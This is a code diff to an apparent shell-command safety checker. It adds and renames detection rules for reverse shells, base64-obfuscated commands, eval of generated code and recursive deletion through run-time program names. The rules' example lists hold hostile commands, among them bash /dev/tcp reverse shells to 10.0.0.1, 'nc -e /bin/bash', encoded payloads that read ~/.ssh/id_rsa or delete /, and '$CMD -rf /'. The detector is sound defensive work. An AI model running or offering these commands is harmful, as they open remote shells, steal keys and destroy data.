@@ -14,9 +14,10 @@ import {
   runsCode,
   upstream,
 } from "../match.ts";
-import { DOWNLOADERS, INTERPRETERS, SHELLS, SOCKET_TOOLS } from "../programs.ts";
+import { locateArg } from "../paths.ts";
+import { DOWNLOADERS, INTERPRETERS, program, SHELLS, SOCKET_TOOLS } from "../programs.ts";
 import { rules } from "../rule.ts";
-import { hidesWordBreak } from "../words.ts";
+import { hidesWordBreak } from "../../syntax/words.ts";
 
 /** Shells and interpreters: what runs code piped into it. */
 const CODE = [...SHELLS, ...INTERPRETERS];
@@ -55,12 +56,45 @@ function codeFrom(c: Invocation, from: (u: Invocation) => boolean): boolean {
   return readsCodeFromStdin(c) && upstream(c).some(from);
 }
 
+/**
+ * `$(starship init zsh)`, `` `ssh-agent -s` ``, `$(brew shellenv)`: a program printing its own
+ * shell set-up, the usual thing to `eval`.
+ */
+const SETUP =
+  /^\s*(?:\S*\/)?(?:(?:ssh-agent|gpg-agent|keychain|dircolors|thefuck)\b|\S+(?:\s+[^\s;&|<>`$()]+)*?\s+(?:init|hook|env|shellenv|activate|completions?|alias|virtualenv-init|shell\.\w+)\b)[^;&|<>`$()]*$/;
+
+/** Whether `eval`'s code is only substitutions of programs printing their shell set-up. */
+function evalsSetup(args: readonly string[]): boolean {
+  const code = args.join(" ");
+  const subs = [...code.matchAll(/\$\(([^()]*)\)|`([^`]*)`/g)];
+  return subs.length > 0 && subs.every((m) => SETUP.test(m[1] ?? m[2])) &&
+    code.replace(/\$\(([^()]*)\)|`([^`]*)`/g, "").trim() === "";
+}
+
+/** A program chosen at run time: a variable, a substitution or a pattern in command position. */
+const INDIRECT = /^[$=]|\$\(|`|[*?[]/;
+
+/** A bash socket path: `/dev/tcp/HOST/PORT`, `/dev/udp/HOST/PORT`. */
+const SOCKET_PATH = /^\/dev\/(tcp|udp)\//;
+
+/** Whether `c` opens a bash socket (as a redirection, or a word the parser could not place). */
+const opensSocket = (c: Invocation) =>
+  c.redirects.some((x) => SOCKET_PATH.test(x.target)) || c.args.some((a) => SOCKET_PATH.test(a));
+
+/** A shell, interpreter or run-time program reading from or writing to descriptor 3 or above. */
+const fedFromDescriptor = (c: Invocation) =>
+  (runsCode(c) || c.name.startsWith("$")) &&
+  c.redirects.some((x) => /^[<>]&$/.test(x.op) && /^\d+$/.test(x.target) && Number(x.target) > 2);
+
+/** A recursive flag, as most programs that delete, copy or change trees spell it. */
+const RECURSIVE = /^(-[a-zA-Z]*[rR][a-zA-Z]*|--recursive)$/;
+
 /** A shell's `-c` code that is only a placeholder filled in at run time (`{}`, `$1`, `$@`). */
 const PLACEHOLDER = /^(\{\}|\$\w+|\$\{\w+\}|\$@|\$\*|\$\d)$/;
 
-export const codeRules = rules([
+export const codeRules = rules("code", [
   {
-    id: "code.remote-to-shell",
+    id: "remote-to-shell",
     risk: "critical",
     reason: "runs a script downloaded from the network without showing it to you",
     on: [...CODE, ...SOURCE],
@@ -96,14 +130,16 @@ export const codeRules = rules([
     },
   },
   {
-    id: "code.obfuscated",
+    id: "obfuscated",
     risk: "high",
     reason: "runs commands hidden by encoding (base64, hex, reversed text)",
     on: "*",
     group: "remote",
     evenDryRun: true,
     match: (_, c) =>
-      codeFrom(c, (u) => decoder(u) !== undefined) ||
+      codeFrom(c, (u) => decoder(u) !== undefined) || c.decoded === "name" ||
+      (c.decoded === "args" && (SHELLS.has(c.key) || c.key === "eval")) ||
+      // Decoding the line does not show (`$(base64 -d < payload)`).
       ((SHELLS.has(c.key) || c.key === "eval" || c.name.startsWith("$")) &&
         [c.name, ...c.args].some((a) =>
           // Two linear tests (one combined pattern backtracks badly on long words).
@@ -116,12 +152,14 @@ export const codeRules = rules([
         "$(echo cm0gLXJmIC8K | base64 -d)",
         "echo / fr- mr | rev | bash",
         "base64 -d payload.b64 | sudo -s",
+        'bash -c "$(printf %s Y2F0IH4vLnNzaC9pZF9yc2E= | base64 -d)"',
+        'eval "$(base64 -d < payload.b64)"',
       ],
-      miss: ["echo aGkK | base64 -d", "base64 -d key.b64 > key"],
+      miss: ["echo aGkK | base64 -d", "base64 -d key.b64 > key", 'echo "$(echo aGkK | base64 -d)"'],
     },
   },
   {
-    id: "code.download-then-run",
+    id: "download-then-run",
     risk: "high",
     reason: "downloads a program and runs it straight away, unseen",
     on: "*",
@@ -151,7 +189,7 @@ export const codeRules = rules([
     },
   },
   {
-    id: "code.history-to-shell",
+    id: "history-to-shell",
     risk: "high",
     reason: "re-runs every command in your shell history",
     on: CODE,
@@ -160,7 +198,7 @@ export const codeRules = rules([
     examples: { hit: ["history | sh", "history | bash"], miss: ["history | grep ssh"] },
   },
   {
-    id: "code.output-to-shell",
+    id: "output-to-shell",
     risk: "moderate",
     reason: "runs commands produced by another program, which you cannot see here",
     on: CODE,
@@ -184,25 +222,72 @@ export const codeRules = rules([
     },
   },
   {
-    id: "code.dynamic-shell",
+    id: "dynamic-shell",
     risk: "moderate",
     reason: "runs shell code built at run time from input or variables",
     on: [...SHELLS, "eval"],
     group: "remote",
     match: (_, c) => {
-      if (c.key === "eval") return c.args.some((a) => /\$|`/.test(a));
+      if (c.key === "eval") return c.args.some((a) => /\$|`/.test(a)) && !evalsSetup(c.args);
       const i = c.args.findIndex((a) => /^-[a-zA-Z]*c[a-zA-Z]*$/.test(a));
       if (i < 0) return c.args.length === 0 && c.via.includes("xargs");
       const code = c.args[i + 1];
       return code === undefined ? c.via.includes("xargs") : PLACEHOLDER.test(code.trim());
     },
     examples: {
-      hit: ["echo ok | parallel bash -c {}", 'eval "$CMD"', "xargs sh -c", "xargs -0 bash"],
-      miss: ["bash -c 'ls'", "eval ls", "echo ls | xargs sh -c"],
+      hit: [
+        "echo ok | parallel bash -c {}",
+        'eval "$CMD"',
+        "xargs sh -c",
+        "xargs -0 bash",
+        'eval "$(./gen.py)"',
+        'eval "$(tool init); $EXTRA"',
+      ],
+      miss: [
+        "bash -c 'ls'",
+        "eval ls",
+        "echo ls | xargs sh -c",
+        'eval "$(ssh-agent -s)"',
+        'eval "$(starship init zsh)"',
+        "eval `/opt/homebrew/bin/brew shellenv`",
+      ],
     },
   },
   {
-    id: "code.fork-bomb",
+    id: "indirect-program",
+    risk: "high",
+    reason: "runs a program chosen at run time (a variable, a substitution or a pattern) with a " +
+      "recursive flag on a home, the root or a system directory",
+    on: INDIRECT,
+    aspect: true,
+    // `[` and `[[` are programs (tests), not patterns.
+    match: (_, c, l) =>
+      INDIRECT.test(c.name) && program(c.key) === undefined &&
+      c.args.some((a) => RECURSIVE.test(a)) &&
+      c.args.some((a) =>
+        locateArg(a, c, l).some((t) => /^(root|windows-root|home|system)$/.test(t.place))
+      ),
+    examples: {
+      hit: [
+        "$CMD -rf /",
+        '"$TOOL" -Rf "$HOME"',
+        "${X} --recursive --force /home/alice",
+        "$1 -fr ~/",
+        "$(get_tool) -r /etc",
+        "/usr/local/bin/?? -rf ~",
+      ],
+      miss: [
+        "$EDITOR notes.txt",
+        "$CC -o app main.c",
+        "$CMD -rf ./build",
+        "rsync -r ~ /backup",
+        "[ -r / ] && echo readable",
+        "[[ -r ~ ]]",
+      ],
+    },
+  },
+  {
+    id: "fork-bomb",
     risk: "critical",
     reason: "a fork bomb: it multiplies processes until the machine freezes",
     on: [...INTERPRETERS],
@@ -221,28 +306,36 @@ export const codeRules = rules([
     },
   },
   {
-    id: "code.reverse-shell",
+    id: "reverse-shell",
     risk: "critical",
     reason: "opens a shell that someone on the network can control",
     on: "*",
     evenDryRun: true,
-    match: (r, c) =>
+    match: (r, c, l) =>
       (SOCKET_TOOLS.has(c.key) &&
         r.args.some((a) => /^-[a-z]*[ec]$/.test(a) || /exec:|system:/i.test(a)) &&
         r.args.some((a) => /(^|\/)(ba|z|k|da)?sh\b|cmd\.exe|exec:/i.test(a))) ||
-      c.redirects.some((x) => /^\/dev\/(tcp|udp)\//.test(x.target)) ||
-      r.args.some((a) => /^\/dev\/(tcp|udp)\/|socket\.socket\(.*(connect|dup2)|pty\.spawn/.test(a)),
+      // A bash socket (`/dev/tcp/host/port`) given to a shell, or opened on a descriptor that
+      // a shell on the line reads its code from (`exec 5<>/dev/tcp/…; sh <&5 >&5`).
+      (opensSocket(c) && (runsCode(c) || l.commands.some(fedFromDescriptor))) ||
+      r.args.some((a) => /socket\.socket\(.*(connect|dup2)|pty\.spawn/.test(a)),
     examples: {
       hit: [
         "nc -l -p 4444 -e /bin/bash",
         "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
         "ncat -lvp 4444 -e /bin/sh",
+        "0<&196;exec 196<>/dev/tcp/10.0.0.1/4444; sh <&196 >&196 2>&196",
+        "exec 5<>/dev/tcp/10.0.0.1/80; cat <&5 | while read l; do $l 2>&5 >&5; done",
       ],
-      miss: ["nc -zv host 443", "nc -l 8080"],
+      miss: [
+        "nc -zv host 443",
+        "nc -l 8080",
+        "exec 3<>/dev/tcp/example.com/80; echo -e 'GET / HTTP/1.0\\n' >&3; cat <&3",
+      ],
     },
   },
   {
-    id: "code.inline-system",
+    id: "inline-system",
     risk: "moderate",
     reason: "inline interpreter code runs shell commands or deletes files",
     on: [...INTERPRETERS],
@@ -260,7 +353,7 @@ export const codeRules = rules([
     },
   },
   {
-    id: "code.execution-policy",
+    id: "execution-policy",
     risk: "moderate",
     reason: "lowers the PowerShell script execution policy",
     on: "set-executionpolicy",
@@ -268,7 +361,7 @@ export const codeRules = rules([
     examples: { hit: ["Set-ExecutionPolicy Unrestricted"], miss: ["Get-ExecutionPolicy"] },
   },
   {
-    id: "code.hidden-space",
+    id: "hidden-space",
     risk: "moderate",
     reason: "look-alike Unicode spaces or invisible characters hide how the words really split",
     on: "*",
